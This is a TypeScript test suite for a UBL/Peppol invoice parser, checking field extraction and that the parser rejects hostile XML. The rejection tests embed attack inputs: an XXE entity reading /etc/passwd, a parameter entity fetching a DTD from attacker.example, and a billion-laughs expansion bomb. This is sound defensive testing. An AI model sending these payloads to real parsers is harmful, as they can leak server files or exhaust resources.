import { describe, expect, it } from 'vitest';
import { buildUblInvoice } from './build-ubl';
import { checkUbl } from './check-ubl';
import { isPdf } from './is-pdf';
import { parseUbl, type UblDocument, type UblResult } from './parse-ubl';
import { expectTranslated, fixture, fixtureText } from './ubl-test-helpers';

const invoiceNs = 'urn:oasis:names:specification:ubl:schema:xsd:Invoice-2';
const cacNs = 'urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2';
const cbcNs = 'urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2';
const openInvoice = `<Invoice xmlns="${invoiceNs}" xmlns:cac="${cacNs}" xmlns:cbc="${cbcNs}">`;

function parsed(result: UblResult): {
  document: UblDocument;
  attachments: Extract<UblResult, { ok: true }>['attachments'];
} {
  if (!result.ok) throw new Error(`refused: ${JSON.stringify(result.rejection)}`);
  return result;
}

function refusal(result: UblResult) {
  if (result.ok) throw new Error('expected a refusal');
  expectTranslated(result.rejection);
  return result.rejection;
}

const parse = (xml: string | Buffer, options?: Parameters<typeof parseUbl>[1]) =>
  parseUbl(typeof xml === 'string' ? Buffer.from(xml, 'utf8') : xml, options);

describe('parseUbl on the fixtures', () => {
  it('reads every field of a Peppol BIS 3 invoice with two VAT rates, an allowance, a payee and a delivery', () => {
    const { document, attachments } = parsed(parse(fixture('invoice-two-rates.xml')));
    expect(document).toEqual({
      kind: 'invoice',
      documentType: 'Invoice',
      signReversed: false,
      typeCode: '380',
      customizationId: 'urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0',
      profileId: 'urn:fdc:peppol.eu:2017:poacc:billing:01:1.0',
      // not the cbc:ID inside ext:UBLExtensions: only the UBL common components are read
      number: 'FA-2024-0117',
      issueDate: '2024-05-02',
      // cbc:DueDate wins over PaymentMeans/PaymentDueDate (2024-06-15)
      dueDate: '2024-06-01',
      paymentTermsNote: "Paiement à 30 jours fin de mois. Pénalités de retard : 3 fois le taux d'intérêt légal.",
      currency: 'EUR',
      buyerReference: 'SERV-ACHATS-42',
      orderReference: 'PO-88412',
      billingReferences: [],
      notes: [
        'Merci de rappeler le numéro de facture lors du paiement.',
        '#AAB#Escompte pour paiement anticipé : néant.',
      ],
      seller: {
        name: 'Atelier Lumière',
        registrationName: 'Atelier Lumière SAS',
        ids: [
          { scheme: '0009', value: '73282932000074', source: 'endpoint' },
          { scheme: '0009', value: '73282932000074', source: 'identification' },
          { scheme: '0002', value: '732829320', source: 'legal' },
        ],
        vatId: 'FR44732829320',
        address: {
          street: '12 rue des Tanneurs',
          additionalStreet: 'Bâtiment B',
          city: 'Lyon',
          postalCode: '69002',
          region: 'Auvergne-Rhône-Alpes',
          country: 'FR',
        },
        contact: { name: 'Claire Fontaine', phone: '+33 4 72 00 11 22', email: 'compta@atelier-lumiere.example' },
      },
      buyer: {
        name: 'Boulangerie Martin',
        registrationName: 'Boulangerie Martin SARL',
        ids: [
          { scheme: '0088', value: '3015060012347', source: 'endpoint' },
          { scheme: '', value: 'CLI-000451', source: 'identification' },
          { scheme: '0002', value: '552100554', source: 'legal' },
        ],
        vatId: 'FR61552100554',
        address: {
          street: '48 avenue Jean Jaurès',
          additionalStreet: null,
          city: 'Villeurbanne',
          postalCode: '69100',
          region: null,
          country: 'FR',
        },
        contact: { name: 'Jean Martin', phone: '+33 4 78 55 66 77', email: 'achats@boulangerie-martin.example' },
      },
      payee: {
        name: 'Rhône Affacturage SA',
        registrationName: null,
        ids: [
          { scheme: 'SEPA', value: 'FR12ZZZ123456', source: 'identification' },
          { scheme: '0002', value: '381234567', source: 'legal' },
        ],
        vatId: null,
        address: { street: null, additionalStreet: null, city: null, postalCode: null, region: null, country: null },
        contact: { name: null, phone: null, email: null },
      },
      delivery: {
        name: 'Boulangerie Martin – fournil de Vaulx',
        registrationName: null,
        ids: [{ scheme: '0088', value: '3015060099998', source: 'location' }],
        vatId: null,
        address: {
          street: '5 rue du Four',
          additionalStreet: null,
          city: 'Vaulx-en-Velin',
          postalCode: '69120',
          region: null,
          country: 'FR',
        },
        contact: { name: null, phone: null, email: null },
      },
      deliveryDate: '2024-04-29',
      lines: [
        {
          id: '1',
          quantity: '4',
          unitCode: 'C62',
          lineAmount: '480.00',
          name: 'Lampe de bureau Arceau',
          description: 'Lampe de bureau articulée, ampoule LED E27 incluse',
          sellersItemId: 'LMP-ARC-LT',
          price: '120.00',
          baseQuantity: '1',
          taxCategory: 'S',
          taxPercent: '20',
          note: 'Finition laiton brossé',
        },
        {
          id: '2',
          quantity: '6',
          unitCode: 'C62',
          lineAmount: '210.00',
          name: 'Livre « Histoires de lumière »',
          description: null,
          sellersItemId: 'LIV-HDL-01',
          price: '35.00',
          baseQuantity: null,
          taxCategory: 'S',
          taxPercent: '5.5',
          note: null,
        },
      ],
      allowanceCharges: [
        { charge: false, amount: '30.00', reason: 'Remise fidélité', taxCategory: 'S', taxPercent: '20' },
      ],
      taxTotal: '101.55',
      taxSubtotals: [
        { category: 'S', percent: '20', taxableAmount: '450.00', taxAmount: '90.00', exemptionReason: null },
        { category: 'S', percent: '5.5', taxableAmount: '210.00', taxAmount: '11.55', exemptionReason: null },
      ],
      totals: {
        lineExtension: '690.00',
        taxExclusive: '660.00',
        taxInclusive: '761.55',
        allowanceTotal: '30.00',
        chargeTotal: null,
        prepaid: '100.00',
        rounding: null,
        payable: '661.55',
      },
    });
    // The embedded PDF, byte for byte; the reference without an attachment gives none.
    expect(attachments).toHaveLength(1);
    expect(attachments[0]).toMatchObject({
      id: 'FA-2024-0117-PDF',
      filename: 'FA-2024-0117.pdf',
      mimeCode: 'application/pdf',
      description: 'Facture FA-2024-0117 (PDF)',
    });
    expect(attachments[0]!.bytes.equals(fixture('invoice-fa-2024-0117.pdf'))).toBe(true);
    expect(isPdf(attachments[0]!.bytes)).toBe(true);
    expect(checkUbl(document)).toEqual([]);
  });

  it('stores as plain JSON: the document survives a JSON round trip unchanged', () => {
    const { document } = parsed(parse(fixture('invoice-two-rates.xml')));
    expect(JSON.parse(JSON.stringify(document))).toEqual(document);
  });

  it('reads a credit note (381) with its billing reference and its due date from the payment means', () => {
    const { document, attachments } = parsed(parse(fixture('credit-note-381.xml')));
    expect(document).toMatchObject({
      kind: 'credit',
      documentType: 'CreditNote',
      signReversed: false,
      typeCode: '381',
      number: 'AV-2024-0009',
      issueDate: '2024-05-10',
      dueDate: '2024-05-31',
      currency: 'EUR',
      orderReference: 'PO-88412',
      billingReferences: ['FA-2024-0117'],
      paymentTermsNote: 'Avoir imputable sur la prochaine facture ou remboursé par virement.',
      payee: null,
      delivery: null,
      deliveryDate: null,
      taxTotal: '24.00',
      totals: { lineExtension: '120.00', taxExclusive: '120.00', taxInclusive: '144.00', payable: '144.00' },
    });
    expect(document.buyer.ids).toEqual([
      { scheme: '0088', value: '3015060012347', source: 'endpoint' },
      { scheme: '0002', value: '552100554', source: 'legal' },
    ]);
    expect(document.lines).toEqual([
      expect.objectContaining({ id: '1', quantity: '1', unitCode: 'C62', lineAmount: '120.00', price: '120.00' }),
    ]);
    expect(attachments).toEqual([]);
    expect(checkUbl(document)).toEqual([]);
  });

  it('reads a negative invoice as a credit with every amount and quantity negated, prices kept', () => {
    const { document } = parsed(parse(fixture('negative-invoice.xml')));
    expect(document).toMatchObject({
      kind: 'credit',
      documentType: 'Invoice',
      signReversed: true,
      typeCode: '380',
      number: 'FA-2024-0131',
      billingReferences: ['FA-2024-0117'],
      taxTotal: '5.85',
      totals: {
        lineExtension: '70.00',
        taxExclusive: '80.00',
        taxInclusive: '85.85',
        allowanceTotal: null,
        chargeTotal: '10.00',
        prepaid: null,
        rounding: null,
        payable: '85.85',
      },
    });
    expect(document.lines).toEqual([
      expect.objectContaining({ quantity: '2', lineAmount: '70.00', price: '35.00', taxPercent: '5.5' }),
    ]);
    expect(document.allowanceCharges).toEqual([
      { charge: true, amount: '10.00', reason: 'Frais de port', taxCategory: 'S', taxPercent: '20' },
    ]);
    expect(document.taxSubtotals.map((subtotal) => [subtotal.taxableAmount, subtotal.taxAmount])).toEqual([
      ['70.00', '3.85'],
      ['10.00', '2.00'],
    ]);
    // The totals rules are linear: they hold on the negated amounts as they did on the file's.
    expect(checkUbl(document)).toEqual([]);
  });

  it('reads a JPY credit note with no decimals and Japanese names', () => {
    const { document } = parsed(parse(fixture('credit-note-jpy.xml')));
    expect(document).toMatchObject({
      kind: 'credit',
      number: 'CN-JP-2024-0042',
      currency: 'JPY',
      dueDate: '2024-08-31',
      orderReference: '発注-7781',
      billingReferences: ['INV-JP-2024-0388'],
      notes: ['返品（初期不良）に伴う返金です。'],
      taxTotal: '576',
      totals: { lineExtension: '6300', taxExclusive: '6300', taxInclusive: '6876', payable: '6876' },
    });
    expect(document.seller).toMatchObject({
      name: 'さくら商事',
      registrationName: '株式会社さくら商事',
      vatId: 'T7010001088960',
      address: { city: '千代田区', region: '東京都', postalCode: '100-0005', country: 'JP' },
    });
    expect(document.buyer.ids).toEqual([
      { scheme: '0188', value: '4120001077526', source: 'endpoint' },
      { scheme: '0188', value: '4120001077526', source: 'legal' },
    ]);
    expect(document.buyer.contact).toEqual({ name: '山田 花子', phone: null, email: 'keiri@yamada-denki.example' });
    expect(document.lines.map((line) => [line.name, line.quantity, line.unitCode, line.taxCategory])).toEqual([
      ['USB充電器 20W', '3', 'H87', 'S'],
      ['緑茶ティーバッグ', '5', 'H87', 'AA'],
    ]);
    expect(checkUbl(document)).toEqual([]);
  });

  it('matches by namespace, not prefix: other prefixes and a default namespace read the same document', () => {
    const original = fixtureText('invoice-two-rates.xml');
    const expected = parsed(parse(original)).document;
    const otherPrefixes = original
      .replace(/xmlns:cac=/, 'xmlns:agg=')
      .replace(/xmlns:cbc=/, 'xmlns:basic=')
      .replace(/(<\/?)cac:/g, '$1agg:')
      .replace(/(<\/?)cbc:/g, '$1basic:');
    expect(otherPrefixes).toContain('<basic:ID>FA-2024-0117</basic:ID>');
    expect(parsed(parse(otherPrefixes)).document).toEqual(expected);

    const defaultBasic = original
      .replace(
        '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"',
        `<inv:Invoice xmlns:inv="${invoiceNs}" xmlns="${cbcNs}"`,
      )
      .replace('</Invoice>', '</inv:Invoice>')
      .replace(/ xmlns:cbc="[^"]*"/, '')
      .replace(/(<\/?)cbc:/g, '$1');
    expect(defaultBasic).toContain('<ID>FA-2024-0117</ID>');
    expect(parsed(parse(defaultBasic)).document).toEqual(expected);
  });

  it('ignores elements that only look like UBL: a cbc prefix bound to another namespace is not read', () => {
    const wrong = fixtureText('credit-note-381.xml').replace(
      `xmlns:cbc="${cbcNs}"`,
      'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-1"',
    );
    const { document } = parsed(parse(wrong));
    expect(document.number).toBeNull();
    expect(checkUbl(document)).toContainEqual(
      expect.objectContaining({
        field: 'cbc:ID',
        messageKey: 'ubl.errors.missing_field',
        values: { rule: 'BR-02', field: 'cbc:ID' },
      }),
    );
  });

  it('accepts a byte order mark and whitespace before the XML declaration, and reports lines of the file', () => {
    const text = fixtureText('credit-note-381.xml');
    const expected = parsed(parse(text)).document;
    expect(parsed(parse(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]))).document).toEqual(
      expected,
    );
    expect(parsed(parse(`\n\n  \t\r\n${text}`)).document).toEqual(expected);
    expect(parsed(parse(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`\n ${text}`)]))).document).toEqual(
      expected,
    );
    // The error is on line 4 of the file, after three blank lines.
    const broken = refusal(parse(`\n\n\n${openInvoice}<cbc:ID>1</cbc:Note></Invoice>`));
    expect(broken).toMatchObject({ messageKey: 'ubl.errors.malformed', values: { line: '4' } });
  });

  it('reads UTF-16 with a byte order mark', () => {
    const text = fixtureText('credit-note-jpy.xml').replace('encoding="UTF-8"', 'encoding="UTF-16"');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    expect(parsed(parse(utf16)).document.seller.registrationName).toBe('株式会社さくら商事');
  });

  it('decodes the predefined entities, character references and CDATA', () => {
    const xml = buildUblInvoice({
      number: 'A&B-1',
      issueDate: '2024-01-01',
      currency: 'EUR',
      buyer: { name: 'Smith & <Sons>' },
      lines: [{ name: 'Item', quantity: '1', unitPrice: '10', taxPercent: '20' }],
    }).replace(
      '<cbc:DocumentCurrencyCode>',
      '<cbc:Note>&#x41;&#66;<![CDATA[<C> & D]]></cbc:Note><cbc:DocumentCurrencyCode>',
    );
    const { document } = parsed(parse(xml));
    expect(document.number).toBe('A&B-1');
    expect(document.buyer.registrationName).toBe('Smith & <Sons>');
    expect(document.notes).toEqual(['AB<C> & D']);
  });

  it('refuses an amount in another currency than the document’s, naming the element and the document', () => {
    const xml = fixtureText('invoice-two-rates.xml').replace(
      '<cbc:LineExtensionAmount currencyID="EUR">210.00</cbc:LineExtensionAmount>',
      '<cbc:LineExtensionAmount currencyID="USD">210.00</cbc:LineExtensionAmount>',
    );
    expect(refusal(parse(xml))).toEqual({
      field: 'cac:InvoiceLine[2]/cbc:LineExtensionAmount',
      messageKey: 'ubl.errors.currency_mismatch',
      values: { expected: 'EUR', found: 'USD' },
      document: 'FA-2024-0117',
    });
  });

  it('accepts a second tax total in the VAT accounting currency, and reads the one in the document currency', () => {
    const xml = fixtureText('invoice-two-rates.xml')
      .replace('<cbc:BuyerReference>', '<cbc:TaxCurrencyCode>SEK</cbc:TaxCurrencyCode><cbc:BuyerReference>')
      .replace(
        '<cac:TaxTotal>',
        '<cac:TaxTotal><cbc:TaxAmount currencyID="SEK">1150.10</cbc:TaxAmount></cac:TaxTotal><cac:TaxTotal>',
      );
    const { document } = parsed(parse(xml));
    expect(document.taxTotal).toBe('101.55');
    expect(document.taxSubtotals).toHaveLength(2);
    expect(checkUbl(document)).toEqual([]);
  });

  it('reads an Invoice with a credit note type code as a credit, amounts as written', () => {
    const asInvoice = buildUblInvoice({
      number: 'X-381',
      issueDate: '2024-01-01',
      currency: 'EUR',
      buyer: { name: 'Buyer' },
      lines: [{ name: 'Item', quantity: '1', unitPrice: '10', taxPercent: '20' }],
    }).replace('<cbc:InvoiceTypeCode>380<', '<cbc:InvoiceTypeCode>381<');
    expect(parsed(parse(asInvoice)).document).toMatchObject({ kind: 'credit', signReversed: false, typeCode: '381' });
  });

  it('reads a 200 KB invoice of 400 lines and a 2 MB one of 4,000 lines', () => {
    for (const count of [400, 4000]) {
      const xml = buildUblInvoice({
        number: `BIG-${count}`,
        issueDate: '2024-03-01',
        currency: 'EUR',
        buyer: { name: 'Grossiste Durand', endpoint: { scheme: '0088', value: '3015060012347' } },
        lines: Array.from({ length: count }, (_, index) => ({
          name: `Article ${index + 1} – référence catalogue ${String(index).padStart(6, '0')}`,
          description: 'Conditionnement carton de 12, livraison sur palette',
          sellersItemId: `SKU-${index}`,
          quantity: String((index % 7) + 1),
          unitPrice: `${(index % 50) + 1}.${String(index % 100).padStart(2, '0')}`,
          taxPercent: index % 3 === 0 ? '5.5' : '20',
        })),
      });
      expect(xml.length).toBeGreaterThan(count * 500);
      const { document } = parsed(parse(xml));
      expect(document.lines).toHaveLength(count);
      expect(document.lines.at(-1)!.id).toBe(String(count));
      expect(checkUbl(document)).toEqual([]);
    }
  });
});

describe('parseUbl refuses hostile input', () => {
  it('refuses an external entity (XXE) without reading the file it names', () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
${openInvoice}<cbc:ID>&xxe;</cbc:ID></Invoice>`;
    const result = parse(xml);
    expect(refusal(result)).toEqual({ field: '', messageKey: 'ubl.errors.doctype_refused', values: {} });
    expect(JSON.stringify(result)).not.toContain('root:');
  });

  it('refuses a billion laughs before expanding anything', () => {
    const entities = Array.from(
      { length: 9 },
      (_, index) => `<!ENTITY lol${index + 1} "${`&lol${index};`.repeat(10)}">`,
    ).join('\n');
    const xml = `<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol0 "lol">
${entities}]>
${openInvoice}<cbc:Note>&lol9;</cbc:Note></Invoice>`;
    expect(refusal(parse(xml)).messageKey).toBe('ubl.errors.doctype_refused');
  });

  it('refuses a DOCTYPE with no entities, a parameter entity, and a DOCTYPE anywhere in the file', () => {
    expect(refusal(parse(`<!DOCTYPE Invoice>${openInvoice}</Invoice>`)).messageKey).toBe('ubl.errors.doctype_refused');
    expect(
      refusal(
        parse(
          `<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>${openInvoice}</Invoice>`,
        ),
      ).messageKey,
    ).toBe('ubl.errors.doctype_refused');
    const inside = fixtureText('credit-note-381.xml').replace(
      '<cbc:DocumentCurrencyCode>',
      '<cbc:Note><![CDATA[<!doctype html>]]></cbc:Note><cbc:DocumentCurrencyCode>',
    );
    expect(refusal(parse(inside)).messageKey).toBe('ubl.errors.doctype_refused');
  });

  it('refuses a DOCTYPE split across two of the chunks the file is read in', () => {
    const prefix = '<?xml version="1.0"?><!--';
    const padding = 'x'.repeat(64 * 1024 - prefix.length - '-->'.length - 4);
    const xml = `${prefix}${padding}--><!DOCTYPE Invoice>${openInvoice}</Invoice>`;
    expect(xml.indexOf('<!DOCTYPE')).toBe(64 * 1024 - 4);
    expect(refusal(parse(xml)).messageKey).toBe('ubl.errors.doctype_refused');
  });

  it('refuses elements nested deeper than the limit', () => {
    const depth = 100_000;
    const xml = `${openInvoice}${'<cbc:Note>'.repeat(depth)}${'</cbc:Note>'.repeat(depth)}</Invoice>`;
    expect(refusal(parse(xml))).toMatchObject({ messageKey: 'ubl.errors.too_deep', values: { limit: '64' } });
    expect(
      refusal(parse(`${openInvoice}${'<a>'.repeat(11)}${'</a>'.repeat(11)}</Invoice>`, { maxDepth: 10 })),
    ).toMatchObject({ messageKey: 'ubl.errors.too_deep', values: { limit: '10' } });
    // Ten levels (root included) are within a limit of ten.
    expect(parse(`${openInvoice}${'<a>'.repeat(9)}${'</a>'.repeat(9)}</Invoice>`, { maxDepth: 10 }).ok).toBe(true);
  });

  it('refuses a 10 MB text node, before reading to its end', () => {
    const text = 'A'.repeat(10 * 1024 * 1024);
    const whole = `${openInvoice}<cbc:ID>X-1</cbc:ID><cbc:Note>${text}</cbc:Note></Invoice>`;
    expect(refusal(parse(whole))).toMatchObject({
      field: 'cbc:Note',
      messageKey: 'ubl.errors.text_too_long',
      values: { limit: String(256 * 1024) },
      document: 'X-1',
    });
    // The same text with no end at all: refused for its length, not for being cut off, so it was not read through.
    const endless = `${openInvoice}<cbc:Note>${text}`;
    expect(refusal(parse(endless)).messageKey).toBe('ubl.errors.text_too_long');
    // A long comment or attribute value is a text run too.
    expect(refusal(parse(`${openInvoice}<!--${text}--></Invoice>`)).messageKey).toBe('ubl.errors.text_too_long');
    expect(refusal(parse(`${openInvoice}<cbc:ID schemeID="${'x'.repeat(5000)}">1</cbc:ID></Invoice>`)).messageKey).toBe(
      'ubl.errors.text_too_long',
    );
  });

  it('refuses an embedded attachment over the cap, counting its base64 before decoding it', () => {
    const bytes = Buffer.alloc(2000, 7);
    const xml = buildUblInvoice({
      number: 'ATT-1',
      issueDate: '2024-01-01',
      currency: 'EUR',
      buyer: { name: 'Buyer' },
      lines: [{ name: 'Item', quantity: '1', unitPrice: '10', taxPercent: '20' }],
      attachment: { bytes, filename: 'big.pdf', mimeCode: 'application/pdf' },
    });
    expect(parsed(parse(xml, { maxAttachmentBytes: 2000 })).attachments[0]!.bytes.equals(bytes)).toBe(true);
    expect(refusal(parse(xml, { maxAttachmentBytes: 1999 }))).toEqual({
      field: 'cac:AdditionalDocumentReference/cac:Attachment/cbc:EmbeddedDocumentBinaryObject',
      messageKey: 'ubl.errors.attachment_too_large',
      values: { limit: '1999', filename: 'big.pdf' },
      // cbc:ID comes before the attachment: the refusal names the document
      document: 'ATT-1',
    });
  });

  it('refuses a huge base64 attachment over the default cap (10 MiB), and one that never ends before reading it all', () => {
    const open = (base64: string) =>
      `${openInvoice}<cac:AdditionalDocumentReference><cbc:ID>1</cbc:ID><cac:Attachment><cbc:EmbeddedDocumentBinaryObject mimeCode="application/pdf" filename="huge.pdf">${base64}`;
    const close = '</cbc:EmbeddedDocumentBinaryObject></cac:Attachment></cac:AdditionalDocumentReference></Invoice>';
    const huge = Buffer.alloc(12 * 1024 * 1024, 1).toString('base64');
    expect(refusal(parse(`${open(huge)}${close}`))).toMatchObject({
      messageKey: 'ubl.errors.attachment_too_large',
      values: { limit: String(10 * 1024 * 1024), filename: 'huge.pdf' },
    });
    // Cut off mid-attachment: refused for its size, not for being cut off, so it was not read to its end.
    const large = Buffer.alloc(4 * 1024 * 1024, 1).toString('base64');
    expect(refusal(parse(open(large), { maxAttachmentBytes: 1024 * 1024 })).messageKey).toBe(
      'ubl.errors.attachment_too_large',
    );
  });

  it('refuses an attachment that is not base64', () => {
    const xml = `${openInvoice}<cac:AdditionalDocumentReference><cac:Attachment><cbc:EmbeddedDocumentBinaryObject mimeCode="application/pdf" filename="x.pdf">not*base64!</cbc:EmbeddedDocumentBinaryObject></cac:Attachment></cac:AdditionalDocumentReference></Invoice>`;
    expect(refusal(parse(xml))).toMatchObject({
      messageKey: 'ubl.errors.invalid_attachment',
      values: { filename: 'x.pdf' },
    });
  });

  it('refuses a file over the size limit before reading it', () => {
    const xml = fixture('credit-note-381.xml');
    expect(refusal(parse(xml, { maxBytes: xml.length - 1 }))).toEqual({
      field: '',
      messageKey: 'ubl.errors.too_large',
      values: { limit: String(xml.length - 1) },
    });
    expect(parse(xml, { maxBytes: xml.length }).ok).toBe(true);
  });

  it('refuses too many elements and too many attributes on one element', () => {
    const many = `${openInvoice}${'<cbc:Note>n</cbc:Note>'.repeat(1000)}</Invoice>`;
    expect(refusal(parse(many, { maxElements: 500 }))).toMatchObject({
      messageKey: 'ubl.errors.too_many_elements',
      values: { limit: '500' },
    });
    const attributes = Array.from({ length: 40 }, (_, index) => ` a${index}="1"`).join('');
    expect(refusal(parse(`${openInvoice}<cbc:Note${attributes}>n</cbc:Note></Invoice>`))).toMatchObject({
      messageKey: 'ubl.errors.too_many_attributes',
      values: { limit: '32' },
    });
  });

  it('refuses a root that is not a UBL 2.1 Invoice or CreditNote', () => {
    const cases: [string, string][] = [
      [
        '<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"><cbc:ID xmlns:cbc="x">1</cbc:ID></Order>',
        '{urn:oasis:names:specification:ubl:schema:xsd:Order-2}Order',
      ],
      ['<Invoice><ID>1</ID></Invoice>', 'Invoice'],
      ['<html><body>invoice</body></html>', 'html'],
      [
        '<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>',
        '{urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100}CrossIndustryInvoice',
      ],
      // A CreditNote root in the Invoice namespace, and the other way round.
      [`<CreditNote xmlns="${invoiceNs}"/>`, 'CreditNote'],
      ['<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2"/>', 'Invoice'],
    ];
    for (const [xml, root] of cases) {
      expect(refusal(parse(xml))).toEqual({ field: '', messageKey: 'ubl.errors.not_ubl', values: { root } });
    }
  });

  it('refuses a UBL 2.0 document (same namespaces, told apart by UBLVersionID)', () => {
    const xml = fixtureText('credit-note-381.xml').replace(
      '<cbc:CustomizationID>',
      '<cbc:UBLVersionID>2.0</cbc:UBLVersionID><cbc:CustomizationID>',
    );
    expect(refusal(parse(xml))).toEqual({
      field: 'cbc:UBLVersionID',
      messageKey: 'ubl.errors.unsupported_version',
      values: { version: '2.0' },
      document: 'AV-2024-0009',
    });
    expect(parse(xml.replace('>2.0<', '>2.1<')).ok).toBe(true);
  });

  it('refuses truncated and malformed XML with the line where it broke', () => {
    const text = fixtureText('credit-note-381.xml');
    const truncated = text.slice(0, text.indexOf('<cac:TaxTotal>'));
    expect(refusal(parse(truncated))).toMatchObject({ field: '', messageKey: 'ubl.errors.malformed' });
    const mismatched = text.replace('</cbc:IssueDate>', '</cbc:IssueDat>');
    const line = String(text.slice(0, text.indexOf('</cbc:IssueDate>')).split('\n').length);
    expect(refusal(parse(mismatched))).toMatchObject({ messageKey: 'ubl.errors.malformed', values: { line } });
    expect(refusal(parse('')).messageKey).toBe('ubl.errors.malformed');
    expect(refusal(parse('just text')).messageKey).toBe('ubl.errors.malformed');
    expect(refusal(parse(`${openInvoice}<cbc:Note>&undefined;</cbc:Note></Invoice>`)).messageKey).toBe(
      'ubl.errors.malformed',
    );
    expect(refusal(parse(`${openInvoice}<unbound:Note>x</unbound:Note></Invoice>`)).messageKey).toBe(
      'ubl.errors.malformed',
    );
    expect(refusal(parse(`${openInvoice}</Invoice><Invoice/>`)).messageKey).toBe('ubl.errors.malformed');
  });

  it('refuses bytes that are not UTF-8, and an encoding other than UTF-8 or UTF-16', () => {
    const latin1 = Buffer.from(`${openInvoice}<cbc:Note>caf\u00e9</cbc:Note></Invoice>`, 'latin1');
    expect(refusal(parse(latin1))).toEqual({ field: '', messageKey: 'ubl.errors.invalid_encoding', values: {} });
    const declared = `<?xml version="1.0" encoding="ISO-8859-1"?>${openInvoice}</Invoice>`;
    expect(refusal(parse(declared))).toMatchObject({
      messageKey: 'ubl.errors.unsupported_encoding',
      values: { encoding: 'ISO-8859-1' },
    });
  });
});
